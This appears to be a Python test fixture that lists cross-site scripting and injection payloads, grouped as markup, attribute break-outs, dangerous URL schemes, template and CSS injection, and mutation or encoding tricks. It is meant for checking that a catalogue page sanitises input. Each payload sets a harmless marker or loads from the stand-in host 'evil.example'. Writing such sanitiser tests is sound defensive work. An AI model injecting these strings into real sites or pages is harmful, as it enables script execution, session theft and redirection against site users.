"""Text that becomes script, markup, a request or a setting where a page treats it as more than text.

Each marks what it gets hold of: it sets `hacked`, makes an element with `data-xss`, or calls something of `EVIL`.
"""

from __future__ import annotations

EVIL = "evil.example"
PICTURES = "pictures.example"  # where a catalogue may well keep its pictures
_CALL = f"//{EVIL}/x"

_MARKUP = (
    "<script data-xss>window.hacked=1</script>",
    "<ScRiPt data-xss src=" + _CALL + "></sCrIpT>",
    '<img data-xss src=x onerror="window.hacked=1">',
    "<img data-xss src=" + _CALL + "?image>",
    "<svg data-xss onload=window.hacked=1>",
    "<svg data-xss><script>window.hacked=1</script></svg>",
    "<svg data-xss><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<svg data-xss><a xlink:href='javascript:window.hacked=1'><text y=9>x</text></a></svg>",
    "<iframe data-xss srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data-xss data='javascript:window.hacked=1'></object><embed data-xss src=" + _CALL + ">",
    "<math data-xss><maction actiontype='statusline' xlink:href='javascript:window.hacked=1'>x</maction></math>",
    "<style data-xss>@import '" + _CALL + ".css'; body { display: none }</style>",
    "<link data-xss rel=stylesheet href=" + _CALL + ".css><link data-xss rel=prefetch href=" + _CALL + ">",
    "<base data-xss href=" + _CALL + "/>",
    "<meta data-xss http-equiv=refresh content='0;url=" + _CALL + "'>",
    "<body data-xss onload=window.hacked=1 onpageshow=window.hacked=1>",
    "<input data-xss autofocus onfocus=window.hacked=1>",
    "<details data-xss open ontoggle=window.hacked=1>x</details>",
    "<video data-xss><source onerror=window.hacked=1></video><audio data-xss src=x onerror=window.hacked=1></audio>",
    "<a data-xss href=javascript:window.hacked=1 onmouseover=window.hacked=1>a bargain</a>",
    "<form data-xss action=" + _CALL + "><button formaction=javascript:window.hacked=1>Buy</button></form>",
    "<template data-xss shadowrootmode=open><img src=x onerror=window.hacked=1></template>",
)
_BREAK_OUTS = (
    "\"><img data-xss src=x onerror='window.hacked=1'>",
    '\'><img data-xss src=x onerror="window.hacked=1">',
    '" autofocus tabindex=1 onfocus="window.hacked=1" data-xss="',
    "' onmouseover='window.hacked=1' data-xss='",
    "` onload=`window.hacked=1` data-xss=`",
    "</script><script data-xss>window.hacked=1</script>",
    "</title></textarea></style></noscript><img data-xss src=x onerror=window.hacked=1>",
    '"};window.hacked=1;//',
    "'-(window.hacked=1)-'",
    "\\\";window.hacked=1;//\\'",
    "a\u2028window.hacked=1//\u2029b",
    "<!-- <script> --><img data-xss src=x onerror=window.hacked=1>",
    "<!--<img data-xss src='--><img data-xss src=x onerror=window.hacked=1//'>",
    "]]><img data-xss src=x onerror=window.hacked=1><![CDATA[",
    "&lt;img data-xss src=x onerror=window.hacked=1&gt; &#60;script&#62;window.hacked=1&#60;/script&#62;",
)
_ADDRESSES = (
    "javascript:window.hacked=1",
    "JaVaScRiPt:window.hacked=1//https://shop.example",
    "java\tscript:window.hacked=1",
    "\x01javascript:window.hacked=1",
    "javascript&colon;window.hacked=1",
    "data:text/html,<script data-xss>parent.hacked=1</script>",
    "vbscript:window.hacked=1",
    "https:javascript:window.hacked=1",
    f'https://{PICTURES}/x.png"onerror="window.hacked=1"data-xss="',
    "//" + EVIL + "/relative",
    "/images/../../\\" + EVIL + "/x",
)
_OTHER_LANGUAGES = (
    "{{constructor.constructor('window.hacked=1')()}} {{7*7}}",
    "${window.hacked=1} #{window.hacked=1} <%= window.hacked=1 %>",
    "{% raw %}{{ ''.__class__.__mro__ }}{% endraw %} {{ setup|safe }}",
    "[a bargain](javascript:window.hacked=1) ![x](" + _CALL + ".png)",
    "red;background:url(" + _CALL + ");x:expression(window.hacked=1)",
)
_ODD = (
    "<math><mtext><table><mglyph><style><!--</style><img data-xss title='--&gt;&lt;img data-xss src=x onerror=a&gt;'>",
    "<noscript><p data-xss title='</noscript><img data-xss src=x onerror=window.hacked=1>'></noscript>",
    "<form id=body name=parentNode data-xss><input name=textContent id=setup><input name=append id=texts></form>",
    "__proto__",
    "constructor",
    "\u202egpj.tob\u202c\u200b\ufeff\uff1cscript data-xss\uff1ewindow.hacked=1\uff1c/script\uff1e",
)
# Too long for an id; must not matter elsewhere.
_VERY_LONG = "<b data-xss onclick=window.hacked=1>" * 50
PAYLOADS: tuple[str, ...] = (*_MARKUP, *_BREAK_OUTS, *_ADDRESSES, *_OTHER_LANGUAGES, *_ODD, _VERY_LONG)
# No catalogue takes this, but anybody may type it. What is left without the first character of all is a tag.
WITH_NULL = "<scr\x00ipt data-xss>window.hacked=1</scr\x00ipt><img data-xss src=x o\x00nerror=window.hacked=1>"
